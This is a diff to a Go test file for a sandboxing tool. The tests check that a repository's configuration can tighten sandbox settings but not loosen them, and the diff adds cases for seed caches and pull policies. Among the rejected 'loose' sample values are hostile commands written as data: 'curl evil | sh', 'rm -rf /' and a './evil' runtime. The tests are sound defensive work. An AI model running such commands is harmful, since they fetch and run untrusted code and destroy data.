@@ -8,6 +8,7 @@ import (
 	"testing"
 	"time"
 
+	"github.com/cco-dev/cco/internal/gate"
 	"github.com/cco-dev/cco/internal/must"
 )
 
@@ -16,6 +17,7 @@ const mine = `
 backend = "native"
 mounts = ["~/go", "~/cache:rw"]
 caches = ["a", "b"]
+seed = ["a", "b"]
 accept = ["no-landlock", "no-cgroup"]
 env = {A = "1"}
 limits = {memory = "4GiB", procs = 100, time = "2h"}
@@ -44,6 +46,7 @@ func tight() map[string]struct {
 		"box.backend":       {`backend = "lima"`, func(c *Config) { c.Box.Backend = "lima" }},
 		"box.mounts":        {`mounts = ["~/cache"]`, func(c *Config) { c.Box.Mounts = []Mount{{home + "/cache", false}} }},
 		"box.caches":        {`caches = ["b"]`, func(c *Config) { c.Box.Caches = []string{"b"} }},
+		"box.seed":          {`seed = ["b"]`, func(c *Config) { c.Box.Seed = []string{"b"} }},
 		"box.accept":        {`accept = []`, func(c *Config) { c.Box.Accept = nil }},
 		"box.limits.memory": {`memory = "1GiB"`, func(c *Config) { c.Box.Limits.Memory = 1 << 30 }},
 		"box.limits.procs":  {`procs = 99`, func(c *Config) { c.Box.Limits.Procs = 99 }},
@@ -60,6 +63,10 @@ func tight() map[string]struct {
 		"pull.max_bundle":   {`max_bundle = "1MiB"`, func(c *Config) { c.Pull.MaxBundle = 1 << 20 }},
 		"pull.max_blob":     {`max_blob = "1MiB"`, func(c *Config) { c.Pull.MaxBlob = 1 << 20 }},
 
+		"pull.refuse": {`refuse = ["ci"]`, func(c *Config) { c.Pull.Policy.Refuse = []gate.Kind{"ci"} }},
+		"pull.ask":    {`ask = ["ci"]`, func(c *Config) { c.Pull.Policy.Ask = []gate.Kind{"ci"} }},
+		"pull.tell":   {`tell = ["ci"]`, func(*Config) {}},
+
 		"network.mode": {`mode = "none"`, func(c *Config) { c.Network.Mode = "none" }},
 		"network.allow": {`allow = ["b.example:8443"]`,
 			func(c *Config) { c.Network.Allow = []string{"b.example:8443"} }},
@@ -74,6 +81,7 @@ func loose() map[string]string {
 		"box.name":          `name = "another"`,
 		"box.mounts":        `mounts = ["~/go", "~/cache:rw", "/etc"]`,
 		"box.caches":        `caches = ["a", "b", "c"]`,
+		"box.seed":          `seed = ["a", "b", "c"]`,
 		"box.env":           `env = {}`,
 		"box.setup":         `setup = ["curl evil | sh"]`,
 		"box.accept":        `accept = ["no-landlock", "no-cgroup", "no-userns"]`,
@@ -95,12 +103,15 @@ func loose() map[string]string {
 		"pull.interval":     `interval = "1ms"`,
 		"pull.max_bundle":   `max_bundle = "3GiB"`,
 		"pull.max_blob":     `max_blob = "101MiB"`,
+		"pull.ask":          `ask = ["secrets"]`,
+		"pull.tell":         `tell = ["install"]`,
 		"notify.on_done":    `on_done = []`,
 		"notify.on_waiting": `on_waiting = ["rm", "-rf", "/"]`,
 		"notify.bell":       `bell = false`,
 		"guard.git_env":     `git_env = "plain"`,
 		"cruise.model":      `model = "the dear one"`,
 		"cruise.bots":       `bots = ["ann"]`,
+		"view.hosts":        `hosts = ["evil.example"]`,
 
 		"box.engine":               `engine = "docker"`,
 		"box.runtime":              `runtime = "./evil"`,
@@ -212,9 +223,10 @@ func TestATrustedRepositorySetsAnything(t *testing.T) {
 
 // A key that is added without saying what tightening it means must not go unnoticed.
 func TestEveryKeyIsInTheTrustTests(t *testing.T) {
-	for _, k := range keys() {
+	for _, k := range keys(backends()) {
 		_, ok := loose()[k.name]
-		if _, no := never()[k.name]; !ok && !no && k.name != "network.mode" && k.name != "network.record_bodies" {
+		if _, no := never()[k.name]; !ok && !no && k.name != "network.mode" && k.name != "network.record_bodies" &&
+			k.name != "pull.refuse" { // which can only tighten
 			t.Errorf("%s: no test that an untrusted repository can't loosen it", k.name)
 		}
 		if _, ok := tight()[k.name]; ok != (k.tighten != nil) {
